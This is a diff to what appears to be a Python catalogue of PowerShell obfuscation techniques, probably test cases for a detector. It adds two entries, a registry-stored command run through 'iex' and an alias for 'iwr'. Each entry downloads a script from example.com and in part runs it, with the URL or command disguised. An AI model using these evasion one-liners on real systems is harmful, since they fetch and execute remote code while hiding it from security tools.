@@ -92,6 +92,9 @@ METHODS: tuple[Method, ...] = (
     _method("url-encoding", "Percent signs", "iwr ([uri]::UnescapeDataString('http%3A%2F%2Fexample.com%2Fa.ps1'))"),
     _method("html-entities", "Entities of HTML",
             "iwr ([Net.WebUtility]::HtmlDecode('http&#58;//example.com/a.ps1'))"),
+    _method("registry-value", "Code kept in a registry value that the command writes itself",
+            "sp HKCU:\\Software\\x a 'iwr http://example.com/a.ps1'; iex (gp HKCU:\\Software\\x a).a"),
+    _method("alias", "A new name for a command", "sal z iwr; z http://example.com/a.ps1", "iwr http://"),
     _method("sort", "Pieces put in order by a number",
             "iwr (-join('3example.com','4/a.ps1','1http','2://'|sort|%{$_.Substring(1)}))"),
 )  # fmt: skip
